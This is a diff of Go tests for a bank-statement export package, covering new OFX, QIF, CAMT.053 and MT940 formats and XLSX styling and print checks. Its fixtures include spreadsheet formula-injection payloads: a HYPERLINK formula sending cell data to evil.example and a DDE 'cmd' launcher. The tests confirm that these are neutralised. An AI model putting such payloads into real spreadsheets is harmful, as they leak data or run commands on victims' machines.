@@ -90,10 +90,16 @@ func empty() *extract.Result {
 	}
 }
 
+// testOptions are the options of the golden files: a fixed creation time,
+// so that OFX and CAMT.053 headers do not change from run to run.
+func testOptions() Options {
+	return Options{FileID: "doc_test", OriginalName: "January statement.pdf", Created: time.Date(2024, 2, 1, 9, 30, 0, 0, time.UTC)}
+}
+
 func write(t *testing.T, f Format, res *extract.Result) []byte {
 	t.Helper()
 	var buf bytes.Buffer
-	if err := Write(&buf, f, "doc_test", res); err != nil {
+	if err := Write(&buf, f, testOptions(), res); err != nil {
 		t.Fatalf("Write(%s): %v", f, err)
 	}
 	return buf.Bytes()
@@ -129,6 +135,13 @@ func TestParseFormat(t *testing.T) {
 		{"csv", CSV, nil},
 		{"xlsx", XLSX, nil},
 		{"XLSX", XLSX, nil},
+		{"ofx", OFX, nil},
+		{"QFX", QFX, nil},
+		{"qbo", QBO, nil},
+		{"qif", QIF, nil},
+		{"camt053", CAMT053, nil},
+		{"mt940", MT940, nil},
+		{"camt", "", ErrFormat},
 		{"pdf", "", ErrFormat},
 		{"xls", "", ErrFormat},
 		{" json", "", ErrFormat},
@@ -150,6 +163,12 @@ func TestFormatContentTypeExt(t *testing.T) {
 		{JSON, "application/json", ".json", false},
 		{CSV, "text/csv; charset=utf-8", ".csv", false},
 		{XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".xlsx", false},
+		{OFX, "application/x-ofx", ".ofx", false},
+		{QFX, "application/vnd.intu.qfx", ".qfx", false},
+		{QBO, "application/vnd.intu.qbo", ".qbo", false},
+		{QIF, "application/qif", ".qif", false},
+		{CAMT053, "application/xml", ".xml", false},
+		{MT940, "text/plain; charset=us-ascii", ".sta", false},
 		{"pdf", "application/octet-stream", "", true},
 	}
 	for _, tt := range tests {
@@ -159,7 +178,7 @@ func TestFormatContentTypeExt(t *testing.T) {
 		if got := tt.f.Ext(); got != tt.ext {
 			t.Errorf("%q.Ext() = %q, want %q", tt.f, got, tt.ext)
 		}
-		err := Write(io.Discard, tt.f, "doc_x", sample())
+		err := Write(io.Discard, tt.f, Options{FileID: "doc_x"}, sample())
 		if gotErr := errors.Is(err, ErrFormat); gotErr != tt.wantsErr {
 			t.Errorf("Write(%q) error = %v, want ErrFormat: %v", tt.f, err, tt.wantsErr)
 		}
@@ -388,7 +407,7 @@ func FuzzCSV(f *testing.F) {
 			{Date: day("2024-03-01"), Description: desc, AmountIn: dec("5"), Balance: *dec("0")},
 		}}
 		var buf bytes.Buffer
-		if err := Write(&buf, CSV, "doc_fuzz", res); err != nil {
+		if err := Write(&buf, CSV, Options{FileID: "doc_fuzz"}, res); err != nil {
 			t.Fatal(err)
 		}
 		records := readCSV(t, buf.Bytes())
@@ -473,6 +492,24 @@ func describeCell(t *testing.T, f *excelize.File, sheet, ref string) cellInfo {
 	return c
 }
 
+// cellFlags reports a cell's quote-prefix flag and its fill colour.
+func cellFlags(t *testing.T, f *excelize.File, sheet, ref string) (quote bool, fill string) {
+	t.Helper()
+	id, err := f.GetCellStyle(sheet, ref)
+	if err != nil {
+		t.Fatal(err)
+	}
+	style, err := f.GetStyle(id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(style.Fill.Color) > 0 {
+		fill = style.Fill.Color[0]
+	}
+	xf := f.Styles.CellXfs.Xf[id]
+	return xf.QuotePrefix != nil && *xf.QuotePrefix, fill
+}
+
 // dumpXLSX lists every non-empty cell of every sheet, one per line.
 func dumpXLSX(t *testing.T, f *excelize.File) []byte {
 	t.Helper()
@@ -489,7 +526,15 @@ func dumpXLSX(t *testing.T, f *excelize.File) []byte {
 				}
 				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
 				ci := describeCell(t, f, sheet, ref)
-				fmt.Fprintf(&b, "%s!%s %s %q shown=%q fmt=%q\n", sheet, ref, ci.kind, ci.raw, ci.shown, ci.numFmt)
+				fmt.Fprintf(&b, "%s!%s %s %q shown=%q fmt=%q", sheet, ref, ci.kind, ci.raw, ci.shown, ci.numFmt)
+				quote, fill := cellFlags(t, f, sheet, ref)
+				if quote {
+					b.WriteString(" quote-prefix")
+				}
+				if fill != "" {
+					b.WriteString(" fill=" + fill)
+				}
+				b.WriteByte('\n')
 			}
 		}
 	}
@@ -514,8 +559,9 @@ func TestXLSXCells(t *testing.T) {
 		ref  string
 		want cellInfo
 	}{
-		{"A1", cellInfo{"text", "date", "date", ""}},
-		{"F1", cellInfo{"text", "balance", "balance", ""}},
+		{"A1", cellInfo{"text", "Date", "Date", ""}},
+		{"F1", cellInfo{"text", "Balance", "Balance", ""}},
+		{"G1", cellInfo{"text", "Notes", "Notes", ""}},
 		// 2024-01-02 is day 45293 of Excel's 1900 date system.
 		{"A2", cellInfo{"number", "45293", "2024-01-02", "yyyy-mm-dd"}},
 		{"A10", cellInfo{"number", "45322", "2024-01-31", "yyyy-mm-dd"}},
@@ -523,19 +569,22 @@ func TestXLSXCells(t *testing.T) {
 		{"C2", cellInfo{"text", "SALARY ACME CORP LTD", "SALARY ACME CORP LTD", ""}},
 		{"D2", cellInfo{"number", "3773.29", "3,773.29", "4"}},
 		{"F2", cellInfo{"number", "3873.29", "3,873.29", "4"}},
-		{"C3", cellInfo{"text", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, ""}},
+		// Formula-like text keeps its text; the quote-prefix style (checked
+		// below) is what keeps it from running.
+		{"C3", cellInfo{"text", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `=HYPERLINK("http://evil.example/?x="&A1,"click")`, ""}},
 		{"E3", cellInfo{"number", "50.5", "50.50", "4"}},
-		{"C4", cellInfo{"text", "'-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0", ""}},
+		{"C4", cellInfo{"text", "-cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", ""}},
 		{"E4", cellInfo{"number", "4000", "4,000.00", "4"}},
 		{"F4", cellInfo{"number", "-177.21", "-177.21", "4"}},
-		{"C5", cellInfo{"text", "'+SUM(1,2)", "'+SUM(1,2)", ""}},
-		{"C6", cellInfo{"text", "'@SUM(A1:A2)", "'@SUM(A1:A2)", ""}},
+		{"C5", cellInfo{"text", "+SUM(1,2)", "+SUM(1,2)", ""}},
+		{"G5", cellInfo{"text", "balance computed from the opening balance", "balance computed from the opening balance", ""}},
+		{"C6", cellInfo{"text", "@SUM(A1:A2)", "@SUM(A1:A2)", ""}},
 		{"E6", cellInfo{"number", "0.01", "0.01", "4"}},
 		{"C9", cellInfo{"text", `Café "Le Petit", Müller & Söhne <GmbH>`, `Café "Le Petit", Müller & Söhne <GmbH>`, ""}},
 		// 1234567.891 is rounded to cents, like the JSON's "1234567.89".
 		{"E9", cellInfo{"number", "1234567.89", "1,234,567.89", "4"}},
 		{"F9", cellInfo{"number", "-1234738.4", "-1,234,738.40", "4"}},
-		{"C10", cellInfo{"text", "''quoted already", "''quoted already", ""}},
+		{"C10", cellInfo{"text", "'quoted already", "'quoted already", ""}},
 		{"F10", cellInfo{"number", "0", "0.00", "4"}},
 	}
 	for _, tt := range tests {
@@ -543,10 +592,44 @@ func TestXLSXCells(t *testing.T) {
 			t.Errorf("%s = %+v, want %+v", tt.ref, got, tt.want)
 		}
 	}
-	for _, ref := range []string{"E2", "D3", "G2", "A11"} {
+	for _, ref := range []string{"E2", "D3", "G2", "H2", "A11"} {
 		if v, _ := f.GetCellValue(s, ref); v != "" {
 			t.Errorf("%s = %q, want empty", ref, v)
 		}
+	}
+	// Quote prefix on formula-like text only; the warned row 5 tinted
+	// across, empty cells included, and no other row.
+	for ref, want := range map[string]bool{"C3": true, "C4": true, "C5": true, "C6": true, "C7": true, "C8": true, "C10": true, "C2": false, "C9": false, "B3": false} {
+		if got, _ := cellFlags(t, f, s, ref); got != want {
+			t.Errorf("%s quote prefix = %v, want %v", ref, got, want)
+		}
+	}
+	for _, col := range "ABCDEFG" {
+		for row, want := range map[int]string{4: "", 5: warnedFill, 6: ""} {
+			ref := fmt.Sprintf("%c%d", col, row)
+			if _, got := cellFlags(t, f, s, ref); got != want {
+				t.Errorf("%s fill = %q, want %q", ref, got, want)
+			}
+		}
+	}
+	if got, _ := cellFlags(t, f, s, "C5"); !got {
+		t.Errorf("C5 lost its quote prefix when tinted")
+	}
+
+	// Print set-up: landscape, one page wide, header row on every page.
+	layout, err := f.GetPageLayout(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if layout.Orientation == nil || *layout.Orientation != "landscape" || layout.FitToWidth == nil || *layout.FitToWidth != 1 || layout.FitToHeight == nil || *layout.FitToHeight != 0 {
+		t.Errorf("page layout = %+v, want landscape, fit 1 wide by any tall", layout)
+	}
+	props, err := f.GetSheetProps(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if props.FitToPage == nil || !*props.FitToPage {
+		t.Errorf("sheet props = %+v, want fitToPage", props)
 	}
 
 	panes, err := f.GetPanes(s)
@@ -557,14 +640,17 @@ func TestXLSXCells(t *testing.T) {
 		t.Errorf("panes = %+v, want the header row frozen", panes)
 	}
 
-	var filter bool
+	var filter, titles bool
 	for _, dn := range f.GetDefinedName() {
-		if dn.Name == "_xlnm._FilterDatabase" && dn.RefersTo == "'Transactions'!$A$1:$F$10" {
+		if dn.Name == "_xlnm._FilterDatabase" && dn.RefersTo == "'Transactions'!$A$1:$G$10" {
 			filter = true
 		}
+		if dn.Name == "_xlnm.Print_Titles" && dn.RefersTo == "'Transactions'!$1:$1" && dn.Scope == "Transactions" {
+			titles = true
+		}
 	}
-	if !filter {
-		t.Errorf("no _FilterDatabase name for A1:F10 in %+v", f.GetDefinedName())
+	if !filter || !titles {
+		t.Errorf("no _FilterDatabase name for A1:G10 (%v) or no Print_Titles for row 1 (%v) in %+v", filter, titles, f.GetDefinedName())
 	}
 
 	for col, want := range map[string]float64{"A": 12, "C": 50, "D": 15, "F": 16} {
@@ -578,11 +664,13 @@ func TestXLSXCells(t *testing.T) {
 		ref  string
 		want cellInfo
 	}{
-		{"B1", cellInfo{"text", "doc_test", "doc_test", ""}},
-		{"B4", cellInfo{"number", "45292", "2024-01-01", "yyyy-mm-dd"}},
-		{"B6", cellInfo{"number", "100", "100.00", "4"}},
-		{"B8", cellInfo{"number", "2", "2", ""}},
-		{"B12", cellInfo{"text", "10", "10", ""}},
+		{"A1", cellInfo{"text", "File", "File", ""}},
+		{"B1", cellInfo{"text", "January statement.pdf", "January statement.pdf", ""}},
+		{"B2", cellInfo{"text", "doc_test", "doc_test", ""}},
+		{"B5", cellInfo{"number", "45292", "2024-01-01", "yyyy-mm-dd"}},
+		{"B7", cellInfo{"number", "100", "100.00", "4"}},
+		{"B9", cellInfo{"number", "2", "2", ""}},
+		{"B13", cellInfo{"text", "10", "10", ""}},
 	}
 	for _, tt := range stTests {
 		if got := describeCell(t, f, st, tt.ref); got != tt.want {
@@ -609,7 +697,7 @@ func TestXLSXAutoFilterXML(t *testing.T) {
 		t.Fatal(err)
 	}
 	// excelize writes the filter's range with absolute references.
-	for _, want := range []string{`<autoFilter ref="(\$?A\$?1:\$?F\$?10)"`, `<pane [^>]*state="frozen"`, `<cols><col min="1" max="1" [^>]*/><col min="2"`, `<dimension ref="A1:F10"`} {
+	for _, want := range []string{`<autoFilter ref="(\$?A\$?1:\$?G\$?10)"`, `<pane [^>]*state="frozen"`, `<cols><col min="1" max="1" [^>]*/><col min="2"`, `<dimension ref="A1:G10"`, `<pageSetup [^>]*orientation="landscape"`, `<pageSetUpPr fitToPage="(1|true)"`} {
 		if !regexp.MustCompile(want).Match(xml) {
 			t.Errorf("sheet1.xml does not match %s", want)
 		}
@@ -626,7 +714,7 @@ func TestXLSXEmpty(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		if len(rows) != 1 || strings.Join(rows[0], ",") != "date,type,description,amountIn,amountOut,balance" {
+		if len(rows) != 1 || strings.Join(rows[0], ",") != "Date,Type,Description,Money in,Money out,Balance,Notes" {
 			t.Errorf("rows = %q, want the header alone", rows)
 		}
 		if panes, _ := f.GetPanes("Transactions"); !panes.Freeze {
@@ -636,7 +724,7 @@ func TestXLSXEmpty(t *testing.T) {
 }
 
 func TestMoneyCellBounds(t *testing.T) {
-	st := xlsxStyles{money: 7}
+	const st = 7
 	tests := []struct {
 		in   string
 		want any
@@ -659,7 +747,7 @@ func TestMoneyCellBounds(t *testing.T) {
 }
 
 func TestDateCell(t *testing.T) {
-	st := xlsxStyles{date: 3}
+	const st = 3
 	loc := time.FixedZone("UTC+14", 14*3600)
 	tests := []struct {
 		in   time.Time
@@ -702,7 +790,7 @@ func BenchmarkXLSX10000(b *testing.B) {
 	b.ReportAllocs()
 	for b.Loop() {
 		buf.Reset()
-		if err := Write(&buf, XLSX, "doc_bench", res); err != nil {
+		if err := Write(&buf, XLSX, Options{FileID: "doc_bench"}, res); err != nil {
 			b.Fatal(err)
 		}
 	}
@@ -712,7 +800,7 @@ func BenchmarkXLSX10000(b *testing.B) {
 func TestJSONStatementWarnings(t *testing.T) {
 	res := &extract.Result{Statement: extract.Statement{Warnings: []string{"page 2 could not be read"}}}
 	var buf bytes.Buffer
-	if err := Write(&buf, JSON, "f", res); err != nil {
+	if err := Write(&buf, JSON, Options{FileID: "f"}, res); err != nil {
 		t.Fatal(err)
 	}
 	var got struct {
